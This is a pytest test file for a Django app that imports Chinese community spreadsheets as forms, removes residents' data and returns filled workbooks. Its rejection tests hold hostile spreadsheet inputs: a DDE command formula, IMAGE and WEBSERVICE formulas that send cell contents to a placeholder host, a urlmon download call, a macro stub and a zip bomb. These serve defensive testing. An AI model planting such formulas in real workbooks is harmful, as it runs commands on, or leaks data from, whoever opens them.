"""A department's own table comes in as a form, and goes out again in its own cells."""

import io
import time
import zipfile
from collections.abc import Sequence
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from lifang.blocks.forms import service as forms
from lifang.blocks.forms.errors import Refused
from lifang.blocks.forms.making import newest
from lifang.blocks.forms.models import Form, Issue, Merging
from lifang.blocks.forms.reading import column, sheet_of
from lifang.blocks.forms.returning import Page
from lifang.blocks.forms.tests.situations import WEEK, a_roster, an_officer, made, return_of, sent, typed, value
from lifang.blocks.lists.tests.situations import browser
from lifang.blocks.packs.shapes import FormSheet
from lifang.blocks.registry.tests.situations import Town
from lifang.ground.access.models import User
from lifang.ground.access.ranges import today
from lifang.ground.access.scope import scope_of, system_scope
from lifang.ground.files.tests.situations import ODD, odd_zip

pytestmark = pytest.mark.django_db


def a_book(rows: Sequence[Sequence[Any]], merged: Sequence[str] = (), name: str = "Sheet1") -> bytes:
    book = openpyxl.Workbook()
    page = book.active
    page.title = name
    for row in rows:
        page.append(list(row))
    for cells in merged:
        page.merge_cells(cells)
    page["A1"].font = Font(name="黑体", size=18, bold=True)
    return saved(book)


def saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def sends_in(officer: User, content: bytes, matter: str = "assist_elder_visit", **more: str) -> Any:
    file = SimpleUploadedFile("表样.xlsx", content)
    return browser(officer).post("/desk/forms/new/", {"file": file, "matter": matter, "period": "monthly", **more})


def the_form(answer: Any) -> tuple[Form, FormSheet]:
    assert answer.status_code == 302, answer.content.decode()
    with system_scope("test"):
        form = Form.objects.get()
        return form, sheet_of(newest(form))


def bound(sheet: FormSheet) -> dict[str, tuple[str, str]]:
    return {one.title: (one.source, one.what) for one in sheet.columns.values()}


ELDERS = [
    ["高龄老人花名册", None, None, None, None],
    ["序号", "姓名", "出生日期", "联系电话", "有没有扶手"],
    [1, "张三", "1930-01-01", "13800010001", "有"],
    [None, None, None, None, None],
    ["填表人：", None, None, None, None],
]


def test_a_roster_with_a_title_is_bound_to_elements_and_keeps_nobodys_data(officer: User) -> None:
    form, sheet = the_form(sends_in(officer, a_book(ELDERS, ["A1:E1"])))
    assert (sheet.title, sheet.shape, sheet.list) == ("高龄老人花名册", "roster", "aged_80")
    assert bound(sheet) == {
        "姓名": ("element", "name"), "出生日期": ("element", "birth"), "联系电话": ("element", "phone"),
        "有没有扶手": ("typed", ""),
    }  # fmt: skip
    empty = browser(officer).get(f"/desk/forms/{form.pk}/layout/").content
    cells = [cell.value for row in openpyxl.load_workbook(io.BytesIO(empty)).active.iter_rows() for cell in row]
    assert "张三" not in cells
    assert "填表人：" in cells


def test_a_list_of_people_on_another_sheet_is_emptied_and_its_instructions_stay(officer: User) -> None:
    book = openpyxl.load_workbook(io.BytesIO(a_book(ELDERS, ["A1:E1"])))
    last, how = book.create_sheet("上季度"), book.create_sheet("填表说明")
    for row in (("姓名", "联系电话"), ("李四", "13900010009"), ("王五", "13900010010")):
        last.append(row)
    how.append(("姓名按身份证填写",))
    form, _sheet = the_form(sends_in(officer, saved(book)))
    kept = openpyxl.load_workbook(io.BytesIO(browser(officer).get(f"/desk/forms/{form.pk}/layout/").content))
    cells = {cell.value for sheet in kept for row in sheet.iter_rows() for cell in row}
    assert {"姓名", "姓名按身份证填写"} <= cells
    assert not {"李四", "13900010009", "王五"} & cells


def test_what_came_back_stands_in_the_senders_own_cells_with_its_styles(officer: User, town: Town) -> None:
    form, _sheet = the_form(sends_in(officer, a_book(ELDERS, ["A1:E1"])))
    issue = sent(officer, newest(form))
    found = return_of(issue)
    typed = {"c:0:c4": "13800010009", "c:0:c5": "=1+1", "act": "submit"}
    assert browser(town.worker).post(f"/desk/forms/asked/{found.pk}/", typed).status_code == 302
    answer = browser(officer).post(f"/desk/forms/sent/{issue.pk}/sheet/", {"purpose": "慰问"})
    page = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert [page.cell(3, column).value for column in (2, 3)] == ["吴奶奶", page["C3"].value]
    assert (page["E3"].value, page["E3"].data_type) == ("=1+1", "s")
    assert page["D3"].value == "138****0009"
    assert (page["A1"].font.name, page["A1"].font.size) == ("黑体", 18)
    assert [str(one) for one in page.merged_cells.ranges] == ["A1:E1"]


def test_two_rows_of_headers_are_counted_by_what_stands_above_each_other(officer: User) -> None:
    rows = [
        ["社区人口情况表"],
        ["社区", "总人口", "其中", None, "60周岁以上", None, "低保", "议事桌数"],
        [None, None, "男", "女", "男", "女", None, None],
    ]
    _form, sheet = the_form(sends_in(officer, a_book(rows, ["A1:H1", "C2:D2", "E2:F2"])))
    told = {one.title: (one.source, len(one.where)) for one in sheet.columns.values()}
    assert told == {
        "总人口": ("persons", 0), "其中 男": ("persons", 1), "其中 女": ("persons", 1), "60周岁以上 男": ("persons", 2),
        "60周岁以上 女": ("persons", 2), "低保": ("persons", 1), "议事桌数": ("typed", 0),
    }  # fmt: skip


def test_indicators_below_each_other_are_filled_beside_each(officer: User) -> None:
    rows = [
        ["统计表"],
        ["指标名称", "计量单位", "数量"],
        ["总人口", "人", None],
        ["80周岁以上", "人", None],
        ["桌数", "张", None],
    ]
    form, sheet = the_form(sends_in(officer, a_book(rows)))
    assert [one.cell for one in sheet.columns.values()] == [(3, 3), (4, 3), (5, 3)]
    issue = sent(officer, newest(form))
    with system_scope("test"):
        issue.returns.update(state="submitted")
    answer = browser(officer).post(f"/desk/forms/sent/{issue.pk}/sheet/")
    assert openpyxl.load_workbook(io.BytesIO(answer.content)).active["C3"].value == 6


def test_a_questionnaire_in_xlsform_comes_in_and_goes_out(officer: User) -> None:
    book = openpyxl.Workbook()
    survey = book.active
    survey.title = "survey"
    for row in (
        ["type", "name", "label"], ["begin group", "g", "一"], ["text", "name", "姓名"], ["integer", "beds", "床位数"],
        ["note", "n", "谢谢"], ["end group", None, None],
    ):  # fmt: skip
        survey.append(row)
    book.create_sheet("settings").append(["form_title"])
    book["settings"].append(["老人床位调查"])
    form, sheet = the_form(sends_in(officer, saved(book), people="aged_80"))
    assert (sheet.title, sheet.shape) == ("老人床位调查", "roster")
    assert bound(sheet) == {"姓名": ("element", "name"), "床位数": ("typed", "")}
    out = browser(officer).get(f"/desk/forms/{form.pk}/layout/", {"as": "xlsform"}).content
    rows = list(openpyxl.load_workbook(io.BytesIO(out))["survey"].iter_rows(values_only=True))
    assert rows[1][0::2] == ("decimal", "床位数")


def a_questionnaire(survey: Sequence[Sequence[Any]], choices: Sequence[Sequence[Any]] = ()) -> bytes:
    book = openpyxl.Workbook()
    book.active.title = "survey"
    for name, rows in (("survey", survey), ("choices", choices), ("settings", [["form_title"], ["老人住处调查"]])):
        page = book[name] if name in book.sheetnames else book.create_sheet(name)
        for row in rows:
            page.append(list(row))
    return saved(book)


CHOSEN = [
    ["type", "name", "label::中文 (zh)", "required", "relevant"], ["text", "name", "姓名", "yes", None],
    ["select_one care", "who", "谁照料", "true", None], ["select_one yn", "rail", "有没有扶手", "yes", None],
    ["select_one care or_other", "how", "怎么联系", None, None], ["text", "which", "哪一种扶手", "yes", "${rail} = '1'"],
]  # fmt: skip
CHOICES = [
    ["list_name", "name", "label::中文 (zh)"],
    ["care", 1, "子女"],
    ["care", 2, "邻居"],
    ["yn", 1, "是"],
    ["yn", 0, "否"],
]


def test_choices_of_an_xlsform_are_chosen_from_and_go_out_again_as_they_came(officer: User, town: Town) -> None:
    form, sheet = the_form(sends_in(officer, a_questionnaire(CHOSEN, CHOICES), people="aged_80"))
    told = {one.title: (one.kind, one.choices, one.optional) for one in sheet.columns.values() if one.source == "typed"}
    assert told == {
        "谁照料": ("text", ("子女", "邻居"), False), "有没有扶手": ("truth", ("是", "否"), False),
        "怎么联系": ("text", (), True), "哪一种扶手": ("text", (), True),
    }  # fmt: skip
    out = openpyxl.load_workbook(
        io.BytesIO(browser(officer).get(f"/desk/forms/{form.pk}/layout/", {"as": "xlsform"}).content)
    )
    asked = [row[0::2] for row in out["survey"].iter_rows(min_row=2, max_col=3, values_only=True)]
    assert asked[:2] == [("select_one c2", "谁照料"), ("select_one c3", "有没有扶手")]
    assert [row[3] for row in out["survey"].iter_rows(min_row=2, values_only=True)] == ["yes", "yes", None, None]
    listed = list(out["choices"].iter_rows(min_row=2, values_only=True))
    for row in (("c2", "1", "子女"), ("c2", "2", "邻居"), ("c3", "1", "是"), ("c3", "0", "否")):
        assert row in listed

    found = return_of(sent(officer, newest(form)))
    worker, address = browser(town.worker), f"/desk/forms/asked/{found.pk}/"
    page = worker.get(address).content.decode()
    assert '<option value="子女">子女</option>' in page
    refused = worker.post(address, {"c:0:c2": "保姆", "c:0:c3": "true"})
    assert "请从表里给的选项里选" in refused.content.decode()
    assert worker.post(address, {"c:0:c2": "2", "c:0:c3": "0", "act": "submit"}).status_code == 302
    with system_scope("test"):
        (row,) = Page(return_of(found.issue)).rows
        assert [row["cells"][key][0] for key in ("c2", "c3")] == ["邻居", "false"]
    answer = worker.post(f"{address}sheet/", {"purpose": "存档"})
    assert "邻居" in [cell.value for cell in openpyxl.load_workbook(io.BytesIO(answer.content)).active[4]]


@pytest.mark.parametrize("kind", ["select_one 没有的", "select_one"])
def test_a_question_whose_choices_are_not_there_is_refused_with_their_name(officer: User, kind: str) -> None:
    answer = sends_in(officer, a_questionnaire([["type", "name", "label"], [kind, "who", "谁照料"]], CHOICES))
    assert answer.status_code == 422
    assert "“谁照料”要从选项表" in answer.content.decode()


def test_a_roster_says_whom_it_names_and_what_it_costs_before_it_goes_out(officer: User) -> None:
    rows = [["灵活就业人员月度台账"], ["姓名", "出生日期", "灵活就业类型"], [None, None, None]]
    refused = sends_in(officer, a_book(rows))
    assert refused.status_code == 422
    assert "请选花名册填哪些人" in refused.content.decode()
    form, _sheet = the_form(sends_in(officer, a_book(rows), people="everybody"))
    address = f"/desk/forms/{form.pk}/"
    page = browser(officer).get(address).content.decode()
    assert "全体居民" in page
    assert "社区里每个人都要填" in page
    with system_scope("test"):
        everybody = forms.cost(newest(form))
    given = {"title": form.code, "matter": "assist_elder_visit", "period": "monthly", "reason": "只要高龄老人"}
    assert browser(officer).post(f"{address}columns/", {**given, "people": "aged_80"}).status_code == 302
    page = browser(officer).get(address).content.decode()
    assert "高龄老人" in page
    assert "社区里每个人都要填" not in page
    with system_scope("test"):
        assert sheet_of(newest(form)).list == "aged_80"
        elders = forms.cost(newest(form))
        asked = return_of(sent(officer, newest(form))).asked
    assert 3 < elders.most < everybody.most
    assert elders.most == 3 + 1.5 * asked


def test_a_form_of_no_matter_is_refused_at_once_and_what_was_typed_stays(officer: User) -> None:
    answer = sends_in(officer, a_book(ELDERS), matter="", title="我的表")
    assert answer.status_code == 422
    assert "没有对应清单里的事项" in answer.content.decode()
    assert "我的表" in answer.content.decode()


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("macro", "有宏"),
        ("fetching", "公式"),
        ("bomb", "解压"),
        ("empty", "没有"),
        ("nonsense", "表头"),
        ("broken", "打不开"),
    ],
)
def test_a_hostile_workbook_is_refused_with_why(officer: User, name: str, why: str) -> None:
    answer = sends_in(officer, _hostile(name))
    assert answer.status_code == 422
    assert why in answer.content.decode()
    with system_scope("test"):
        assert not Form.objects.exists()


def _hostile(name: str) -> bytes:
    good = a_book(ELDERS)
    if name in ("macro", "bomb"):
        out = io.BytesIO(good)
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as packed:
            if name == "macro":
                packed.writestr("xl/vbaProject.bin", b"x")
            else:
                packed.writestr("xl/media/zero.bin", bytes(60 * 2**20))
        return out.getvalue()
    rows: Sequence[Sequence[Any]] = {
        "fetching": [["姓名", "出生日期"], ["=cmd|'/c calc'!A0", None]], "empty": [[]], "nonsense": [["甲", "乙"]],
    }.get(name, [])  # fmt: skip
    return b"PK\x03\x04 no zip at all" if name == "broken" else a_book(rows)


@pytest.mark.parametrize(
    "formula",
    [
        '=IMAGE("https://x.cn/?q="&C3)', '=_xlfn.WEBSERVICE("https://x.cn/"&C3)', '=IMPORTXML("https://x.cn","//a")',
        '=RTD("x",,C3)', '=CALL("urlmon","URLDownloadToFileA")', "='[1]别处'!A1", "=cmd|'/c calc'!A0", "=那个名字", "=E3:INDEX(A:A,1)",
        "=没有的表!A1",
    ],
)  # fmt: skip
def test_a_formula_that_does_more_than_reckon_is_refused_with_its_cell(officer: User, formula: str) -> None:
    rows = [["人口表"], ["社区", "总人口", "男", "女", "备注"], [None, None, None, None, formula]]
    answer = sends_in(officer, a_book(rows))
    assert answer.status_code == 422
    assert "E3 格的公式不能用" in answer.content.decode()


def test_formulas_that_reckon_stay_and_what_watches_cells_goes(officer: User) -> None:
    kept = ["=SUM(C3:C4)", "=IF(B5>0,ROUND(-$C$5/'表 一'!B5*100%,1),\"无\")", '=COUNTIF(\'表 一\'!C:C,">0")&"个"']
    rows = [["人口表"], ["社区", "总人口", "男", "女", "备注"], [], [], ["合计", *kept]]
    book = openpyxl.load_workbook(io.BytesIO(a_book(rows, name="表 一")))
    page = book.active
    page.conditional_formatting.add("A3:A9", FormulaRule(['IMAGE("https://x.cn/?q="&A3)'], font=Font(bold=True)))
    page.add_data_validation(DataValidation("custom", formula1='=WEBSERVICE("https://x.cn/"&A3)', sqref="A3"))
    book.defined_names["far"] = DefinedName("far", attr_text='WEBSERVICE("https://x.cn/")')
    form, _sheet = the_form(sends_in(officer, saved(book)))
    out = openpyxl.load_workbook(io.BytesIO(browser(officer).get(f"/desk/forms/{form.pk}/layout/").content))
    assert [cell.value for cell in out.active[5][1:4]] == kept
    assert not list(out.active.conditional_formatting)
    assert not out.active.data_validations.dataValidation
    assert not out.defined_names


def test_columns_are_bound_otherwise_in_a_new_version_and_a_bad_sum_keeps_what_was_typed(officer: User) -> None:
    form, sheet = the_form(sends_in(officer, a_book([["表"], ["社区", "总人口", "男", "女", "别的"]])))
    assert sheet.checks == ("c2 = c3 + c4",)
    client, address = browser(officer), f"/desk/forms/{form.pk}/columns/"
    given = {"title": "新表", "matter": "assist_elder_visit", "period": "monthly", "reason": "对应好了"}
    answer = client.post(address, {**given, "checks": "总人口 = 没有的列", "b:c5": "typed:text"})
    assert answer.status_code == 422
    assert "总人口 = 没有的列" in answer.content.decode()
    assert client.post(address, {**given, "checks": "总人口 = 男 + 女", "b:c5": "list:aged_80"}).status_code == 302
    with system_scope("test"):
        now = newest(form)
        assert (now.number, now.title) == (2, "新表")
        assert sheet_of(now).columns["c5"].where[0].first == 80


def test_titles_that_differ_only_in_brackets_are_summed_apart_and_share_no_answers(officer: User) -> None:
    form, _sheet = the_form(sends_in(officer, a_book([["表"], ["社区", "路灯（亮）", "路灯（坏）", "路灯合计"]])))
    given = {"title": "路灯表", "matter": "assist_elder_visit", "period": "monthly", "reason": "对应好了"}
    check = "路灯合计 = 路灯 (亮) + 路灯（坏）"
    bound = {f"b:c{n}": "typed:number" for n in (2, 3, 4)}
    assert (
        browser(officer).post(f"/desk/forms/{form.pk}/columns/", {**given, **bound, "checks": check}).status_code == 302
    )
    with system_scope("test"):
        assert sheet_of(newest(form)).checks == ("c4 = c2 + c3",)
    assert sends_in(officer, a_book([["别的表"], ["社区", "路灯（拆）", "路灯（亮）"]])).status_code == 302
    with system_scope("test"):
        other = sheet_of(newest(Form.objects.exclude(pk=form.pk).get()))
    assert [one.what for one in other.columns.values()] == ["", f"{form.code}.c2"]


def test_forms_that_ask_the_same_are_named_with_why_and_a_merger_is_proposed(officer: User) -> None:
    sends_in(officer, a_book(ELDERS))
    other = an_officer("health")
    rows = [["老人花名册"], ["姓名", "出生日期", "联系电话", "血压"]]
    with system_scope("test"):
        first = Form.objects.get()
    answer = sends_in(other, a_book(rows), "assist_health_followup", people="aged_80")
    client, address = browser(other), answer.headers["Location"]
    page = client.get(address)
    (alike,) = page.context["alike"]
    assert alike.other.form == first
    assert alike.columns == ["姓名", "出生日期", "联系电话"]
    assert page.context["merge"] == [alike]
    assert any("3 列问的是同样的数据" in one for one in alike.reasons)

    assert client.post(f"{address}merge/").status_code == 302
    assert "向对方建议合并" not in client.get(address).content.decode()
    assert "已经建议过合并" in client.post(f"{address}merge/", follow=True).content.decode()
    theirs = browser(officer)
    assert f"{other.unit}建议合并：高龄老人花名册" in theirs.get("/desk/notices/").content.decode()
    seen = theirs.get(f"/desk/forms/{first.pk}/").content.decode()
    assert f"{other.unit}：《老人花名册》" in seen


def test_past_a_merger_a_form_is_sent_with_a_reason_that_stays_with_its_edition(officer: User) -> None:
    sends_in(officer, a_book(ELDERS))
    with system_scope("test"):
        first = Form.objects.get()
    other = an_officer("health")
    rows = [["老人花名册"], ["姓名", "出生日期", "联系电话", "血压"]]
    address = sends_in(other, a_book(rows), matter="assist_health_followup", people="aged_80").headers["Location"]
    client, given = browser(other), {"due": str(today() + WEEK)}
    refused = client.post(f"{address}send/", given)
    assert refused.status_code == 422
    assert "请写明为什么不合并" in refused.content.decode()
    with system_scope("test"):
        assert not Issue.objects.exists()
    assert client.post(f"{address}send/", {**given, "apart": "要血压，民政不该有"}).status_code == 302
    assert "要血压，民政不该有" in client.get(address).content.decode()
    assert "要血压，民政不该有" in browser(officer).get(f"/desk/forms/{first.pk}/").content.decode()
    assert client.post(f"{address}send/", given).status_code == 302, "it was said of this edition"
    with scope_of(an_officer("police"), "form.make"):
        assert not Merging.objects.exists()


def test_what_a_form_asked_of_persons_fills_forms_of_the_same_unit_alone(officer: User, town: Town) -> None:
    rows = [["高龄老人花名册"], ["姓名", "病情"]]
    form, _sheet = the_form(sends_in(officer, a_book(rows)))
    found = return_of(sent(officer, newest(form)))
    answer = browser(town.worker).post(f"/desk/forms/asked/{found.pk}/", {"c:0:c2": "糖尿病"})
    assert answer.status_code == 302
    other = an_officer("health")
    for asking, matter, told in (
        (officer, "assist_elder_visit", ["糖尿病", "known"]), (other, "assist_health_followup", [None, "missing"]),
    ):  # fmt: skip
        assert sends_in(asking, a_book(rows), matter, title="又一张").status_code == 302
        with system_scope("test"):
            edition = newest(Form.objects.latest("pk"))
        assert bound(sheet_of(edition))["病情"] == ("typed", f"{form.code}.c2" if asking == officer else "")
        (one,) = Page(return_of(sent(asking, edition))).rows
        assert one["cells"]["c2"][:2] == told
    taken = {"name": column("姓名", "element", "name", kind="text"), "ill": typed("病情", "text", f"{form.code}.c2")}
    with pytest.raises(Refused, match="不能用到这张表里"):
        made(other, a_roster(taken))


APART = (
    '<extLst><ext xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"'
    ' uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations'
    ' xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" count="1"><x14:dataValidation type="list">'
    "<x14:formula1><xm:f>字典!$B$1:$B$2</xm:f></x14:formula1><xm:sqref>G3:G9</xm:sqref></x14:dataValidation>"
    "</x14:dataValidations></ext></extLst></worksheet>"
)


def with_drop_downs() -> bytes:
    """A roster whose last columns are chosen: in place, by a name, from another sheet as newer Excel keeps it."""
    heads = ["序号", "姓名", "出生日期", "联系电话", "有没有扶手", "补贴类别", "谁照料", "愿不愿意"]
    book = openpyxl.load_workbook(io.BytesIO(a_book([["高龄老人花名册"], heads, [], ["填表人：", "甲"]])))
    page, words = book.active, book.create_sheet("字典")
    for row in (("护理补贴", "子女"), ("高龄津贴", "邻居"), ("都没有", None)):
        words.append(row)
    words.sheet_state = "hidden"
    book.defined_names["类别"] = DefinedName("类别", attr_text="字典!$A$1:$A$3")
    for formula, cells in (('"有,没有,在装"', "E3"), ("类别", "F3:F9"), ('"是,否"', "H3:H9"), ("=INDIRECT(A1)", "D3")):
        page.add_data_validation(DataValidation("list", formula1=formula, sqref=cells))
    page.add_data_validation(DataValidation("list", formula1='"甲,乙"', sqref="B4"))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved(book))) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            part = old.read(name)
            new.writestr(name, part.replace(b"</worksheet>", APART.encode()) if name.endswith("sheet1.xml") else part)
    return out.getvalue()


def drop_downs(content: bytes) -> dict[str, str]:
    page = openpyxl.load_workbook(io.BytesIO(content)).active
    return {str(one.sqref): one.formula1 for one in page.data_validations.dataValidation}


def test_drop_downs_become_choices_and_go_out_in_the_same_cells(officer: User, town: Town) -> None:
    kept = {
        "E3": '"有,没有,在装"',
        "F3:F9": "字典!$A$1:$A$3",
        "H3:H9": '"是,否"',
        "B4": '"甲,乙"',
        "G3:G9": "字典!$B$1:$B$2",
    }
    form, sheet = the_form(sends_in(officer, with_drop_downs()))
    told = {one.title: (one.kind, one.choices) for one in sheet.columns.values() if one.source == "typed"}
    assert told == {
        "有没有扶手": ("text", ("有", "没有", "在装")), "补贴类别": ("text", ("护理补贴", "高龄津贴", "都没有")),
        "谁照料": ("text", ("子女", "邻居")), "愿不愿意": ("truth", ()),
    }  # fmt: skip
    page = browser(officer).get(f"/desk/forms/{form.pk}/")
    assert "社区从这些里选：有、没有、在装" in page.content.decode()
    assert drop_downs(browser(officer).get(f"/desk/forms/{form.pk}/layout/").content) == kept

    issue = sent(officer, newest(form))
    found = return_of(issue)
    worker, address = browser(town.worker), f"/desk/forms/asked/{found.pk}/"
    assert '<option value="在装">在装</option>' in worker.get(address).content.decode()
    given = {
        "c:0:c4": "13800010009",
        "c:0:c5": "在装",
        "c:0:c6": "随便",
        "c:0:c7": "邻居",
        "c:0:c8": "true",
        "act": "submit",
    }
    refused = worker.post(address, given)
    assert refused.status_code == 422
    assert "请从表里给的选项里选" in refused.content.decode()
    assert worker.post(address, {"c:0:c6": "高龄津贴", "act": "submit"}).status_code == 302
    answer = worker.post(f"{address}sheet/", {"purpose": "存档"})
    assert drop_downs(answer.content) == kept
    row = openpyxl.load_workbook(io.BytesIO(answer.content)).active[3]
    assert [cell.value for cell in row[4:8]] == ["在装", "高龄津贴", "邻居", "是"]


def test_a_drop_down_reaches_every_row_that_comes_back_and_moves_with_what_stands_below(officer: User) -> None:
    rows = [["环境表"], ["社区", "总人口", "卫生状况"], [], [None, "填表人："]]
    book = openpyxl.load_workbook(io.BytesIO(a_book(rows)))
    for formula, cells in (('"好,一般"', "C3"), ('"甲,乙"', "B4")):
        book.active.add_data_validation(DataValidation("list", formula1=formula, sqref=cells))
    form, sheet = the_form(sends_in(officer, saved(book)))
    assert sheet.columns["c3"].choices == ("好", "一般")
    issue = sent(officer, newest(form))
    with system_scope("test"):
        issue.returns.update(state="submitted")
    answer = browser(officer).post(f"/desk/forms/sent/{issue.pk}/sheet/")
    assert drop_downs(answer.content) == {"C3:C4": '"好,一般"', "B5": '"甲,乙"'}


def chosen(rows: Sequence[Sequence[Any]], lists: Sequence[tuple[str, str]]) -> openpyxl.Workbook:
    """A table, and drop-downs: what each draws from, and the cells where it stands."""
    book = openpyxl.load_workbook(io.BytesIO(a_book(rows)))
    for formula, cells in lists:
        book.active.add_data_validation(DataValidation("list", formula1=formula, sqref=cells))
    return book


def test_who_is_named_in_the_rows_of_a_table_is_nobodys_choice_and_does_not_stay(officer: User) -> None:
    rows = [
        ["高龄老人花名册"], ["序号", "姓名", "出生日期", "联系人", "谁照料", "电梯", None, None],
        [1, "张三", "1930-01-01", "李四", None, None, None, "子女"], [2, "王五", None, None, None, None, None, "邻居"],
        [None, "赵六"], [None, None, "填表人：", None],
    ]  # fmt: skip
    lists = [("$B$3:$B$5", "D3:D9"), ("$H$3:$H$4", "E3:E9"), ("$B$3:$D$3", "F3:F9")]
    form, sheet = the_form(sends_in(officer, saved(chosen(rows, lists))))
    told = {one.title: one.choices for one in sheet.columns.values() if one.source == "typed"}
    assert told == {"联系人": (), "谁照料": ("子女", "邻居"), "电梯": ()}
    empty = openpyxl.load_workbook(io.BytesIO(browser(officer).get(f"/desk/forms/{form.pk}/layout/").content)).active
    cells = {cell.value for row in empty.iter_rows() for cell in row}
    assert not cells & {"张三", "李四", "王五", "赵六", "1930-01-01"}
    assert {"子女", "邻居", "填表人："} <= cells


PEOPLE = [["姓名", "联系电话"], ["李四", "13900010009"], ["王五", "13900010010"]]


@pytest.mark.parametrize(
    ("rows", "drawn"),
    [
        (PEOPLE, "=名单!$A$2:$A$3"),
        ([["姓名"], ["李四"], ["王五"]], "名单!$A$2:$A$3"),
        ([["姓名"], ["李四"], ["王五"]], "名单!$A:$A"),
        ([["身份证号"], ["330102199001011234"], ["330102199001011235"]], "名单!$A$2:$A$3"),
        ([["户主", "住址"], ["李四", "长春路8号"], ["王五", "长春路9号"], ["填表人：赵六"]], "名单!$A$2:$A$3"),
    ],
)
def test_residents_on_another_sheet_are_nobodys_choice_though_a_drop_down_draws_from_them(
    officer: User, rows: Sequence[Sequence[str]], drawn: str
) -> None:
    book = chosen([["环境表"], ["社区", "总人口", "卫生状况"], []], [(drawn, "C3")])
    listed = book.create_sheet("名单")
    for row in rows:
        listed.append(row)
    form, sheet = the_form(sends_in(officer, saved(book)))
    assert sheet.columns["c3"].choices == ()
    kept = openpyxl.load_workbook(io.BytesIO(browser(officer).get(f"/desk/forms/{form.pk}/layout/").content))["名单"]
    assert [[cell.value for cell in row if cell.value] for row in kept.iter_rows()][0] == rows[0]
    assert not {cell.value for row in kept.iter_rows(min_row=2) for cell in row} - {None}


def test_a_list_of_people_is_emptied_where_a_drop_down_draws_from_a_sheet_with_a_longer_name(officer: User) -> None:
    book = chosen([["环境表"], ["社区", "总人口", "证件"], []], [("名单字典!$A$1:$A$3", "C3")])
    for name, rows in (("名单", PEOPLE), ("名单字典", [["护照"], ["身份证"], ["户口簿"]])):
        page = book.create_sheet(name)
        for row in rows:
            page.append(row)
    form, sheet = the_form(sends_in(officer, saved(book)))
    assert sheet.columns["c3"].choices == ("护照", "身份证", "户口簿")
    kept = openpyxl.load_workbook(io.BytesIO(browser(officer).get(f"/desk/forms/{form.pk}/layout/").content))
    cells = {cell.value for page in kept for row in page.iter_rows() for cell in row}
    assert not {"李四", "13900010009"} & cells
    assert {"身份证", "户口簿"} <= cells


HYGIENE = [["环境表"], ["社区", "总人口", "卫生状况", "评分", "级别"], []]


def test_cells_far_away_are_neither_read_nor_made(officer: User, town: Town) -> None:
    book = chosen(HYGIENE, [("字典!$A$5:$XFD$304", "C3"), ("字典!$A$1:$B$2", "D3"), ("字典!$A:$A", "E3")])
    words = book.create_sheet("字典")
    for row in (("甲", "乙"), ("丙", "丁")):
        words.append(row)
    for page in book:
        page["XFD300"].font = Font(bold=True)
    began = time.monotonic()
    form, sheet = the_form(sends_in(officer, saved(book)))
    told = {one.title: one.choices for one in sheet.columns.values() if one.source == "typed"}
    assert told == {"卫生状况": (), "评分": (), "级别": ("甲", "丙")}
    issue = sent(officer, newest(form))
    with system_scope("test"):
        issue.returns.update(state="submitted")
    assert browser(officer).post(f"/desk/forms/sent/{issue.pk}/sheet/").status_code == 200
    assert time.monotonic() - began < 15


@pytest.mark.parametrize(
    "cells",
    [
        "$A$9:$A$7",
        "$A$0",
        "$A$99999999999:$A$999999999999",
        "$ZZZ:$ZZZ",
        f"=$A${'9' * 5000}",
        "$ZZZ$9999999",
        "\u212a1:\u212a3",
        "字典!$A$9999999:$ZZZ$9999999",
    ],
)
def test_a_drop_down_that_draws_from_nowhere_gives_no_choices(officer: User, cells: str) -> None:
    _form, sheet = the_form(sends_in(officer, saved(chosen(HYGIENE, [(cells, "C3")]))))
    assert sheet.columns["c3"].choices == ()


def test_a_workbook_with_a_part_that_cannot_be_written_again_is_refused(officer: User) -> None:
    book = chosen(HYGIENE, [])
    book.create_chartsheet("没有图的图")
    answer = sends_in(officer, saved(book))
    assert answer.status_code == 422
    assert "读不懂的内容" in answer.content.decode()


def test_a_number_that_is_chosen_stays_a_number(officer: User, town: Town) -> None:
    lists = [('"1,2,3,4,5"', "D3"), ('"01,02"', "E3")]
    form, sheet = the_form(sends_in(officer, saved(chosen(HYGIENE, lists))))
    told = {one.title: (one.kind, one.choices) for one in sheet.columns.values() if one.source == "typed"}
    assert told == {
        "卫生状况": ("number", ()), "评分": ("number", ("1", "2", "3", "4", "5")), "级别": ("text", ("01", "02")),
    }  # fmt: skip
    found = return_of(sent(officer, newest(form)))
    worker, address = browser(town.worker), f"/desk/forms/asked/{found.pk}/"
    assert '<option value="4">4</option>' in worker.get(address).content.decode()
    assert "请从表里给的选项里选" in worker.post(address, {"c:c4": "7"}).content.decode()
    assert worker.post(address, {"c:c3": "9", "c:c4": "4", "c:c5": "01"}).status_code == 302
    with system_scope("test"):
        found.refresh_from_db()
    assert (value(found, "c4"), value(found, "c5")) == (4, "01")
    assert '<option value="4" selected>4</option>' in worker.get(address).content.decode()


@pytest.mark.parametrize("why", ODD)
def test_a_packed_file_that_nothing_can_unpack_is_refused_with_why(officer: User, why: str) -> None:
    answer = sends_in(officer, odd_zip(why))
    assert answer.status_code == 422
    assert "打不开这个 Excel 文件" in answer.content.decode()


def test_text_that_begins_like_a_packed_file_is_text(officer: User) -> None:
    _form, sheet = the_form(sends_in(officer, "PK次数,总人口,男\n,,\n".encode(), title="PK 表"))
    assert [one.title for one in sheet.columns.values()] == ["PK次数", "总人口", "男"]
